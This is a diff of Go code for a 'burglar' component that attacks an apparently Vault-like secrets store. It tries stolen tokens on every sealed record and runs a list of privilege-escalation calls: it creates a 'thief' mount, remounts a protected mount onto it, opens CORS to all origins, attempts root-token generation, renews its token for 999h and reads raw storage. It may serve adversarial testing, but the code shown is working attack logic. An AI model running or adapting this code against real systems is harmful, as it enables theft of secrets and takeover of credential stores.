@@ -229,22 +229,18 @@ func (th *burglar) decrypt(token, path string, r vault.Record) bool {
 	return err == nil && len(dek) > 0 && th.unseal(r, dek)
 }
 
-// sweep tries a token on every record that is not opened yet. It begins with what the token's grant covers:
-// where its uses are few, a refusal is one as well.
+// sweep tries a token on every record that is not opened yet. It begins with what the token's grant covers: where its
+// uses are few, a refusal is one as well.
 func (th *burglar) sweep(token string) {
-	order := slices.Clone(th.records)
+	left := func(want func(vault.Record) bool) []vault.Record {
+		return slices.DeleteFunc(slices.Clone(th.records), func(r vault.Record) bool { return th.has(r.ID) || !want(r) })
+	}
 	for _, d := range th.deeds {
 		if vault.TokenOf(token).Matches(d.digest) {
-			last := func(r vault.Record) int {
-				if d.scope.Covers(r) {
-					return 0
-				}
-				return 1
-			}
-			slices.SortStableFunc(order, func(a, b vault.Record) int { return last(a) - last(b) })
+			th.try(left(d.scope.Covers), th.opener(token))
 		}
 	}
-	th.try(slices.DeleteFunc(order, func(r vault.Record) bool { return th.has(r.ID) }), th.opener(token))
+	th.try(left(func(vault.Record) bool { return true }), th.opener(token))
 }
 
 func (th *burglar) opener(token string) func(vault.Record) bool {
@@ -399,14 +395,13 @@ func (th *burglar) climb(token string) (more []string) {
 		{"POST", "sys/mounts/thief", map[string]any{"type": "kv"}},
 		{"POST", "sys/remount", map[string]any{"from": "portcullis", "to": "thief"}},
 		{"PUT", "sys/config/cors", map[string]any{"enabled": true, "allowed_origins": "*"}},
-		{"POST", "sys/tools/hash", map[string]any{"input": "aGVsbG8="}},
 		{"PUT", "sys/generate-root/attempt", map[string]any{}},
 		{"DELETE", "sys/generate-root/attempt", nil},
 		{"POST", "sys/wrapping/unwrap", map[string]any{"token": token}},
 		{"POST", "auth/token/renew-self", map[string]any{"increment": "999h"}},
 		{"GET", "auth/token/lookup-self", nil}, {"LIST", "auth/token/accessors", nil}, {"GET", "sys/health", nil}, {"GET", "sys/seal-status", nil},
 		{"GET", "sys/raw/logical", nil}, {"GET", "sys/storage/raft/configuration", nil}, {"GET", "sys/internal/ui/mounts", nil},
-		{"GET", "sys/init", nil}, {"GET", "sys/leader", nil}, {"GET", "sys/host-info", nil}, {"GET", "sys/metrics", nil},
+		{"GET", "sys/leader", nil}, {"GET", "sys/host-info", nil},
 	} {
 		_, got := th.call(x.method, x.path, token, x.in)
 		gain(x.path, got)
